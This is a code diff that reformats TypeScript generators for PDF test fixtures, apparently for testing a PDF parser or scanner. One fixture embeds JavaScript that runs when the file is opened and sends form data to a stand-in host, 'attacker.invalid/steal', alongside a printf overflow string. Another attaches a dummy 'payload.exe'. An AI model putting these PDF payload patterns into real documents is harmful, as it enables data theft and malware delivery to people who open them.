@@ -53,12 +53,17 @@ export function makeDeepOutlinePdf(depth: number): Uint8Array {
  */
 export function makeNoUnicodeFontPdf(): Uint8Array {
   const glyphNames = ['g1', 'g2', 'g3', 'g4'];
-  const { objects } = pdfObjects([{ content: Array.from({ length: 6 }, (_, line) => `BT /F1 24 Tf 72 ${700 - line * 40} Td (ABCD DCBA ABBA) Tj ET`).join('\n') }], {
-    font: `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << ${glyphNames
-      .map((name, index) => `/${name} ${ref(6 + index)}`)
-      .join(' ')} >> /Encoding << /Type /Encoding /Differences [65 ${glyphNames.map(name => `/${name}`).join(' ')}] >> /FirstChar 65 /LastChar 68 /Widths [750 750 750 750] /Resources << >> >>`,
-    extraObjects: () => glyphNames.map((_, index) => streamObject(`750 0 0 0 750 750 d1\n${index * 100} 0 ${750 - index * 100} 750 re f`)),
-  });
+  const { objects } = pdfObjects(
+    [{ content: Array.from({ length: 6 }, (_, line) => `BT /F1 24 Tf 72 ${700 - line * 40} Td (ABCD DCBA ABBA) Tj ET`).join('\n') }],
+    {
+      font: `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 0] /CharProcs << ${glyphNames
+        .map((name, index) => `/${name} ${ref(6 + index)}`)
+        .join(
+          ' ',
+        )} >> /Encoding << /Type /Encoding /Differences [65 ${glyphNames.map(name => `/${name}`).join(' ')}] >> /FirstChar 65 /LastChar 68 /Widths [750 750 750 750] /Resources << >> >>`,
+      extraObjects: () => glyphNames.map((_, index) => streamObject(`750 0 0 0 750 750 d1\n${index * 100} 0 ${750 - index * 100} 750 re f`)),
+    },
+  );
   return assemblePdf(objects);
 }
 
@@ -69,7 +74,9 @@ export function makeNoUnicodeFontPdf(): Uint8Array {
  */
 export function makeRareEncodingPdf(): Uint8Array {
   const cyrillic = { '193': 'afii10049', '194': 'afii10034', '195': 'afii10026', '196': 'afii10019', '197': 'afii10022', '198': 'afii10036' }; // Я Р И В Е Т
-  const differences = Object.entries(cyrillic).map(([code, name]) => `${code} /${name}`).join(' ');
+  const differences = Object.entries(cyrillic)
+    .map(([code, name]) => `${code} /${name}`)
+    .join(' ');
   const line = (latin1: string, y: number) => `BT /F1 14 Tf 72 ${y} Td (${latin1}) Tj ET`;
   const content = [
     line('1 Encoding test', 720),
@@ -101,24 +108,33 @@ export async function makeImageOnlyPdf(lines: string[]): Promise<Uint8Array> {
 /** A PDF that runs JavaScript when opened (/OpenAction) and on page open (/AA), as malware droppers do. */
 export function makeJavaScriptPdf(): Uint8Array {
   const script = "app.alert('pwned'); this.submitForm('https://attacker.invalid/steal'); util.printf('%45000.45000f', 0);";
-  const { objects } = pdfObjects([{ content: textContent(['1 Quarterly memo', 'The office closes early on Friday afternoon.']), extra: `/AA << /O ${ref(7)} >>` }], {
-    catalogExtra: first => `/OpenAction ${ref(first)} /Names << /JavaScript << /Names [(init) ${ref(first)}] >> >>`,
-    extraObjects: () => [`<< /Type /Action /S /JavaScript /JS ${pdfString(script)} >>`, `<< /Type /Action /S /JavaScript /JS ${pdfString("app.launchURL('https://attacker.invalid')")} >>`],
-  });
+  const { objects } = pdfObjects(
+    [{ content: textContent(['1 Quarterly memo', 'The office closes early on Friday afternoon.']), extra: `/AA << /O ${ref(7)} >>` }],
+    {
+      catalogExtra: first => `/OpenAction ${ref(first)} /Names << /JavaScript << /Names [(init) ${ref(first)}] >> >>`,
+      extraObjects: () => [
+        `<< /Type /Action /S /JavaScript /JS ${pdfString(script)} >>`,
+        `<< /Type /Action /S /JavaScript /JS ${pdfString("app.launchURL('https://attacker.invalid')")} >>`,
+      ],
+    },
+  );
   return assemblePdf(objects);
 }
 
 /** A PDF carrying an attached file (an executable) in its /EmbeddedFiles name tree and as a file-attachment annotation. */
 export function makeEmbeddedFilePdf(): Uint8Array {
   const payload = Buffer.concat([Buffer.from('MZ\x90\x00', 'latin1'), Buffer.alloc(2000, 0x41)]);
-  const { objects } = pdfObjects([{ content: textContent(['1 Shipping list', 'The attached file lists every pallet shipped in May.']), extra: `/Annots [${ref(8)}]` }], {
-    catalogExtra: first => `/Names << /EmbeddedFiles << /Names [(payload.exe) ${ref(first)}] >> >>`,
-    extraObjects: first => [
-      `<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F ${ref(first + 1)} >> >>`,
-      streamObject(payload, { dictionary: '/Type /EmbeddedFile /Subtype /application#2Fx-msdownload' }),
-      `<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS ${ref(first)} /Contents (payload) >>`,
-    ],
-  });
+  const { objects } = pdfObjects(
+    [{ content: textContent(['1 Shipping list', 'The attached file lists every pallet shipped in May.']), extra: `/Annots [${ref(8)}]` }],
+    {
+      catalogExtra: first => `/Names << /EmbeddedFiles << /Names [(payload.exe) ${ref(first)}] >> >>`,
+      extraObjects: first => [
+        `<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F ${ref(first + 1)} >> >>`,
+        streamObject(payload, { dictionary: '/Type /EmbeddedFile /Subtype /application#2Fx-msdownload' }),
+        `<< /Type /Annot /Subtype /FileAttachment /Rect [72 600 90 620] /FS ${ref(first)} /Contents (payload) >>`,
+      ],
+    },
+  );
   return assemblePdf(objects);
 }
 
